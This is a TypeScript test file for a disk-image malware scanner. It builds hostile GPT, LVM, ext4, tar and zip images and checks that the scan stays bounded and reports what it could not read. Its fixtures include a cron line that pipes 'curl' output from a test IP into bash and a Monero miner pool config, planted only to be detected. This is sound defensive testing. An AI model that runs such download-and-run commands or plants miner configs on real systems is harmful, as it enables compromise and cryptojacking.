/**
 * Hostile disks at the volume and check levels, each built with the real tools
 * (sgdisk, lvm2, mkfs.ext4 -d, debugfs, tar, ln) and scanned by the installed command
 * in a child process under strace and GNU time: the scan ends incomplete with the
 * reason in its report (or reads the class whole and finds what it hides), its peak
 * RSS stays bounded, it opens no host file or device but its target, and it leaves
 * nothing in the temporary or spool directory after a normal exit or a SIGTERM
 * (test/helpers/contained-scan.ts). What the readers make of each class in detail is
 * tested in process (test/mountfs/hostile-volumes.test.ts, test/checks/*).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { link, mkdir, readFile, truncate, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { makeScratchDir } from './helpers/images.js';
import { LoopDevices } from './helpers/lvm-image.js';
import { containment, expectContained, expectSigtermLeavesNothing, scanTraced, type Containment, type Expected } from './helpers/contained-scan.js';
import { gptWithEntries, hostnameExt4, lvmMetadataOverCap, overlappingPartitions, unknownFeatureDisk } from './helpers/hostile-volumes.js';
import { XMR_WALLET } from './miners/elf-fixtures.js';
import { damageCentralDirectory, emptyGptDisks } from './helpers/hostile-disks.js';

const run = promisify(execFile);
const BAD_CRON = '*/5 * * * * root curl -fsSL http://198.51.100.7/gi.sh | bash\n';
const MINER_CONFIG = `{ "donate-level": 0, "pools": [ { "url": "pool.hashvault.pro:443", "user": "${XMR_WALLET}", "pass": "x" } ] }\n`;

let scratch: string;
let c: Containment;
const loops = new LoopDevices();
beforeAll(async () => {
  scratch = await makeScratchDir('minescan-hostile-classes-');
  c = await containment(scratch);
});
afterAll(async () => {
  await loops.detachAll();
  // rm -rf walks with openat: the trees deeper than PATH_MAX are no problem for it.
  if (scratch) await run('rm', ['-rf', scratch]);
});

/** The whole bar for one disk: a traced scan, then the same scan stopped by SIGTERM. */
async function expectHostile(target: string, want: Expected, timeoutMs?: number, extra: string[] = []) {
  const report = await expectContained(c, await scanTraced(c, target, extra, timeoutMs), target, want);
  await expectSigtermLeavesNothing(c, target, extra);
  return report;
}

/** An ext4 image (mkfs.ext4 -d) of a tree `build` makes under a fresh directory. */
async function ext4Of(name: string, sizeMiB: number, build: (root: string) => Promise<void>): Promise<string> {
  const root = path.join(scratch, `${name}-tree`);
  await mkdir(path.join(root, 'etc'), { recursive: true });
  await writeFile(path.join(root, 'etc/hostname'), `${name}\n`);
  await build(root);
  const out = path.join(scratch, `${name}.img`);
  await run('mkfs.ext4', ['-q', '-F', '-d', root, out, `${sizeMiB}M`]);
  await run('rm', ['-rf', root]);
  return out;
}

describe('volume level', () => {
  it('40 partly overlapping GPT partitions: 16 scanned, the rest listed, incomplete', async () => {
    const disk = await overlappingPartitions(scratch, await hostnameExt4(scratch, 'overlapped', 8));
    await expectHostile(disk, { reason: /40 GPT volumes share sectors with others; only the first 16 of them are scanned/ });
  });

  it('a GPT of 16512 entries: the first 16384 are read, incomplete', async () => {
    const disk = await gptWithEntries(scratch, 'big-table', await hostnameExt4(scratch, 'capped', 8), 16512, () => undefined);
    await expectHostile(disk, { reason: /16512 partition entries of 128 bytes: only the first 16384 are read/ });
  });

  it('LVM metadata text over 16 MiB is not read, incomplete', async () => {
    const disk = await lvmMetadataOverCap(scratch, loops, await readFile(await hostnameExt4(scratch, 'bigmeta')));
    await expectHostile(disk, { reason: /17825792 bytes of metadata text \(at most 16777216 are read\)/ });
  });

  it('an ext4 volume with an unknown incompatible feature is named unreadable, incomplete', async () => {
    const disk = await unknownFeatureDisk(scratch, await hostnameExt4(scratch, 'odd'));
    await expectHostile(disk, { reason: /0x4000000/ });
  });
});

describe('check level', () => {
  it('a 200 MiB crontab is read up to the content cap and the rest reported unread', async () => {
    const img = await ext4Of('padded', 300, async (root) => {
      await mkdir(path.join(root, 'etc/cron.d'), { recursive: true });
      await writeFile(path.join(root, 'etc/cron.d/huge'), '');
      await truncate(path.join(root, 'etc/cron.d/huge'), 200 << 20);
    });
    await expectHostile(img, { reason: /\/etc\/cron\.d\/huge: \d+ of 209715200 bytes not read/ });
  });

  it('a download in the middle of a 4 MiB cron line is found, the scan complete', async () => {
    const img = await ext4Of('long-line', 32, async (root) => {
      await mkdir(path.join(root, 'var/spool/cron/crontabs'), { recursive: true });
      const half = 'x'.repeat(2 << 20);
      await writeFile(path.join(root, 'var/spool/cron/crontabs/root'), `* * * * * echo ${half}; curl -fsSL http://198.51.100.7/gi.sh | bash; echo ${half}\n`);
    });
    await expectHostile(img, { complete: true, finding: 'command.download-and-run /var/spool/cron/crontabs/root' });
  });

  it('10000 hard links to a bad cron file: read under its first names, the rest counted, incomplete', async () => {
    const img = await ext4Of('links', 64, async (root) => {
      const dir = path.join(root, 'etc/cron.d');
      await mkdir(dir, { recursive: true });
      await writeFile(path.join(dir, 'job'), BAD_CRON);
      for (let i = 0; i < 12_000; i++) await link(path.join(dir, 'job'), path.join(dir, `job-${i}`));
    });
    await expectHostile(img, { reason: /more hard links to \/etc\/cron\.d\/\S+ \(the same file, with findings\) not reported one by one/, finding: 'command.download-and-run /etc/cron.d/job' });
  });

  it('a tar of 5000 entries naming one cron file is judged by the last, as extraction leaves it', async () => {
    const dir = path.join(scratch, 'dup');
    await mkdir(path.join(dir, 'etc/cron.d'), { recursive: true });
    await writeFile(path.join(dir, 'etc/hostname'), 'dup\n');
    await writeFile(path.join(dir, 'etc/cron.d/job'), '30 3 * * 0 root /usr/sbin/logrotate /etc/logrotate.conf\n');
    const target = path.join(scratch, 'dup.tar');
    await writeFile(path.join(scratch, 'dup.list'), ['etc/hostname', ...Array.from({ length: 5000 }, () => 'etc/cron.d/job')].join('\n'));
    await run('tar', ['-C', dir, '-cf', target, '-T', path.join(scratch, 'dup.list')]);
    await writeFile(path.join(dir, 'etc/cron.d/job'), BAD_CRON);
    await run('tar', ['-C', dir, '-rf', target, 'etc/cron.d/job']);
    await expectHostile(target, { complete: true, finding: 'command.download-and-run /etc/cron.d/job' });
  });
});

describe('container level', () => {
  it('a zip whose central directory is damaged: the cron file is found from the local headers, incomplete', async () => {
    const dir = path.join(scratch, 'zip-root');
    await mkdir(path.join(dir, 'etc/cron.d'), { recursive: true });
    await writeFile(path.join(dir, 'etc/hostname'), 'zipped\n');
    await writeFile(path.join(dir, 'etc/cron.d/job'), BAD_CRON);
    const target = path.join(scratch, 'damaged.zip');
    await run('bash', ['-c', `cd ${dir} && zip -qr ${target} etc`]);
    await damageCentralDirectory(target);
    await expectHostile(target, { reason: /zip central directory: .*entries were read from their local headers instead/, finding: 'command.download-and-run /etc/cron.d/job' });
  });

  it('a zip of 24 disk members holding nothing to scan fits a spool budget of about one member', async () => {
    const dir = path.join(scratch, 'zip-members');
    await emptyGptDisks(dir, 24);
    const target = path.join(scratch, 'members.zip');
    await run('bash', ['-c', `cd ${dir} && zip -q ${target} *.img`]);
    const report = await expectHostile(target, { reason: /no partition table or filesystem found|no filesystem/ }, undefined, ['--spool-budget', '4M']);
    // Each member was spooled and removed in turn: none ran into the budget.
    expect(report!.errors.map((e) => e.message).join('\n')).not.toMatch(/spool budget/);
  });
});

describe('directories deeper than PATH_MAX', () => {
  /**
   * Trees of `depth` directories named `name` under /tmp, a miner config at the bottom,
   * written into the image by debugfs with relative mkdir and cd (mke2fs -d builds
   * full path names and stops at PATH_MAX; the kernel refuses absolute ones as long).
   */
  async function deepImage(file: string, trees: Array<[string, number]>): Promise<string> {
    const empty = path.join(scratch, 'deep-empty');
    await mkdir(path.join(empty, 'tmp'), { recursive: true });
    await writeFile(path.join(empty, 'etc-hostname'), 'deep\n');
    await run('mkfs.ext4', ['-q', '-F', '-N', '32768', '-d', empty, file, '160M']);
    await writeFile(path.join(scratch, 'c.json'), MINER_CONFIG);
    const script: string[] = [];
    for (const [name, depth] of trees) script.push('cd /tmp', `mkdir ${name}`, `cd ${name}`, ...Array.from({ length: depth - 1 }, () => `mkdir ${name}\ncd ${name}`), `write ${path.join(scratch, 'c.json')} c.json`);
    await writeFile(path.join(scratch, 'debugfs.txt'), `${script.join('\n')}\n`);
    await run('debugfs', ['-w', '-f', path.join(scratch, 'debugfs.txt'), file], { maxBuffer: 256 << 20 });
    return file;
  }

  it('a miner 3000 levels down (6000 bytes of path) is found; one 10001 levels down is reported unread with its depth', async () => {
    const image = await deepImage(path.join(scratch, 'deep.img'), [['d', 3000], ['e', 10_001]]);
    const report = await expectHostile(image, { reason: /directory \/tmp(\/e)+ is nested 10001 levels deep, past the limit of 10000; what it holds was not read/ }, 900_000);
    const found = report!.findings!.filter((f) => f.rule === 'miner.config').map((f) => f.path);
    expect(found).toEqual([`/tmp${'/d'.repeat(3000)}/c.json`]);
    expect(found[0]!.length).toBeGreaterThan(4096);
  }, 1_200_000);
});
